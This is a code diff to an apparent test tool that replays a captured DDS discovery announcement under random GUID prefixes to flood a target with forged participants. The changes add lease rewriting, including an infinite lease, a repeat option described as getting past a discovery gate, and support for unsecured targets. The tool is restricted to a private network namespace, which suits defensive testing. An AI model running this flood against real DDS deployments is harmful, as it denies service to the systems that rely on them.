@@ -3,12 +3,14 @@
 // (DATA(p): its identity token, permissions token, security info, locators), then replays it N
 // times to a target, each copy with a random GUID prefix so that every copy is a new remote
 // participant with a pending PKI-DH handshake. No certificate is ever sent: the handshake cannot
-// complete, which is the point.
+// complete, which is the point. Without --pki, an unsecured participant's announcement (a line
+// without DDS Security). --lease-s sets the lease each copy announces (the attacker's choice),
+// --repeat sends each copy more than once (as a real participant announces itself).
 //
 // The announcement is captured from a participant this program creates (with an identity that
-// launch_scripts/pki.sh issued, --pki/--identity) whose only initial peer is a UDP socket of this
-// program: it announces itself there and nowhere else, so the line never meets it. It is deleted
-// before the flood: the replayed copies point to locators where nobody answers.
+// launch_scripts/pki.sh issued, --pki/--identity, or none) whose only initial peer is a UDP socket
+// of this program: it announces itself there and nowhere else, so the line never meets it. It is
+// deleted before the flood: the replayed copies point to locators where nobody answers.
 //
 // Real UDP sockets: run it only inside a private network namespace (launch_scripts/netns-run.sh).
 // Prints one key=value line per fact (what it sent, to where, how fast).
@@ -163,6 +165,57 @@ Datagram with_prefix(const Datagram& original, const Prefix& from, const Prefix&
   return d;
 }
 
+// The announced participant lease (PID_PARTICIPANT_LEASE_DURATION) set to `seconds` (0x7fffffff:
+// Fast DDS's infinite) in the DATA(p)'s parameter list: an attacker chooses how long each forged
+// participant is kept. Returns whether the parameter was found.
+bool set_lease(Datagram& d, std::int32_t seconds) {
+  constexpr std::uint16_t kPidSentinel = 0x0001, kPidLease = 0x0002;
+  std::size_t at = kHeaderSize;
+  while (at + 4 <= d.size()) {
+    const std::uint8_t id = d[at];
+    const std::uint8_t flags = d[at + 1];
+    const bool little = (flags & 0x01) != 0;
+    const auto u16 = [&](std::size_t i) {
+      return static_cast<std::uint16_t>(little ? (d[i] | (d[i + 1] << 8)) : ((d[i] << 8) | d[i + 1]));
+    };
+    const std::size_t length = u16(at + 2);
+    const std::size_t end = length == 0 ? d.size() : std::min(d.size(), at + 4 + length);
+    if (id == kSubmsgData && at + 24 <= end &&
+        std::equal(kSpdpWriter.begin(), kSpdpWriter.end(), d.begin() + static_cast<long>(at + 4 + 8))) {
+      // extraFlags(2) octetsToInlineQos(2) readerId(4) writerId(4) writerSN(8), then inline QoS
+      std::size_t p = at + 4 + 4 + u16(at + 6);
+      const auto skip_list = [&](std::size_t q, bool payload_little, auto&& visit) {
+        while (q + 4 <= end) {
+          const auto pid = static_cast<std::uint16_t>(payload_little ? (d[q] | (d[q + 1] << 8))
+                                                                     : ((d[q] << 8) | d[q + 1]));
+          const auto len = static_cast<std::size_t>(payload_little ? (d[q + 2] | (d[q + 3] << 8))
+                                                                   : ((d[q + 2] << 8) | d[q + 3]));
+          if (pid == kPidSentinel) return q + 4;
+          visit(pid, q + 4, len, payload_little);
+          q += 4 + len;
+        }
+        return end;
+      };
+      if ((flags & 0x02) != 0) p = skip_list(p, little, [](auto, auto, auto, auto) {});
+      if (p + 4 > end) return false;
+      const bool payload_little = d[p + 1] == 0x03;  // PL_CDR_LE (0x0003), else PL_CDR_BE
+      bool found = false;
+      skip_list(p + 4, payload_little, [&](std::uint16_t pid, std::size_t value, std::size_t len, bool le) {
+        if (pid != kPidLease || len < 8) return;
+        const auto s = static_cast<std::uint32_t>(seconds);
+        for (int b = 0; b < 4; ++b)
+          d[value + static_cast<std::size_t>(le ? b : 3 - b)] = static_cast<std::uint8_t>(s >> (8 * b));
+        for (std::size_t b = 4; b < 8; ++b) d[value + b] = 0;
+        found = true;
+      });
+      return found;
+    }
+    if (length == 0) break;
+    at += 4 + length;
+  }
+  return false;
+}
+
 std::string prefix_text(const Prefix& p) {
   std::string s;
   for (std::size_t i = 0; i < p.size(); ++i) s += fmt::format("{}{:02x}", i > 0 && i % 4 == 0 ? "." : "", p[i]);
@@ -172,7 +225,7 @@ std::string prefix_text(const Prefix& p) {
 }  // namespace
 
 int main(int argc, char** argv) {
-  CLI::App cli{"Replay one secured participant's discovery announcement N times with random GUID prefixes "
+  CLI::App cli{"Replay one (secured) participant's discovery announcement N times with random GUID prefixes "
                "(issue 25's forged-discovery flood). Run only inside a private network namespace."};
   int domain = 0;
   int count = 200;
@@ -181,6 +234,8 @@ int main(int argc, char** argv) {
   std::string save;
   std::uint64_t seed = std::random_device{}();
   bool verbose = false;
+  int lease_s = 0;
+  int repeat = 1;
   lb::bench::SecurityOption security;
   cli.add_option("--domain", domain, "DDS domain of the captured participant")->check(CLI::Range(0, 232));
   cli.add_option("--count,-n", count, "announcements to send (each a new GUID prefix)")
@@ -193,11 +248,18 @@ int main(int argc, char** argv) {
   cli.add_option("--save", save, "also write the captured announcement to this file");
   cli.add_option("--seed", seed, "seed of the random GUID prefixes (default: random)");
   cli.add_flag("--verbose,-v", verbose, "print every GUID prefix sent");
+  cli.add_option("--lease-s", lease_s,
+                 "the lease each forged participant announces, seconds (default: the captured one's; 2147483647: "
+                 "infinite)")
+      ->check(CLI::Range(1, 0x7fffffff));
+  cli.add_option("--repeat", repeat,
+                 "send each forged participant's announcement this many times, back to back (a participant that "
+                 "announces once only is not let in by a discovery gate; one that repeats is)")
+      ->check(CLI::Range(1, 100));
   security.add(cli);
   CLI11_PARSE(cli, argc, argv);
-  if (security.pki.empty())
-    fail("--pki and --identity are required: the flood replays a secured participant's announcement");
-  if (security.identity.empty()) fail("--identity is required with --pki");
+  // Without --pki: an unsecured participant's announcement, for a line without DDS Security.
+  if (!security.pki.empty() && security.identity.empty()) fail("--identity is required with --pki");
   if (std::getenv("LINEBRIDGE_NETNS") == nullptr) {
     fail("run through launch_scripts/netns-run.sh: this program sends forged DDS discovery traffic");
   }
@@ -216,7 +278,9 @@ int main(int argc, char** argv) {
   socklen_t length = sizeof local;
   ::getsockname(capture.fd(), reinterpret_cast<sockaddr*>(&local), &length);
   const auto options = security.options(domain, "forged-announcement-source");
-  const Datagram original = capture_announcement(options, capture, ntohs(local.sin_port));
+  Datagram original = capture_announcement(options, capture, ntohs(local.sin_port));
+  if (lease_s > 0 && !set_lease(original, lease_s)) fail("no participant lease in the captured announcement");
+  if (lease_s > 0) std::printf("lease_s=%d\n", lease_s);
   Prefix captured{};
   std::copy_n(original.begin() + kPrefixOffset, captured.size(), captured.begin());
   std::printf("captured_bytes=%zu\ncaptured_prefix=%s\n", original.size(), prefix_text(captured).c_str());
@@ -244,12 +308,14 @@ int main(int argc, char** argv) {
     for (auto& b : prefix) b = static_cast<std::uint8_t>(random());
     prefix[0] |= 0x80;  // as a secured participant's prefix (derived from its certificate) has it
     const Datagram d = with_prefix(original, captured, prefix, replaced);
-    for (const auto& t : targets) {
-      if (::sendto(out.fd(), d.data(), d.size(), 0, reinterpret_cast<const sockaddr*>(&t.address), sizeof t.address) ==
-          static_cast<ssize_t>(d.size())) {
-        ++sent;
-      } else {
-        ++failed;
+    for (int r = 0; r < repeat; ++r) {
+      for (const auto& t : targets) {
+        if (::sendto(out.fd(), d.data(), d.size(), 0, reinterpret_cast<const sockaddr*>(&t.address),
+                     sizeof t.address) == static_cast<ssize_t>(d.size())) {
+          ++sent;
+        } else {
+          ++failed;
+        }
       }
     }
     if (verbose) std::printf("prefix=%s\n", prefix_text(prefix).c_str());
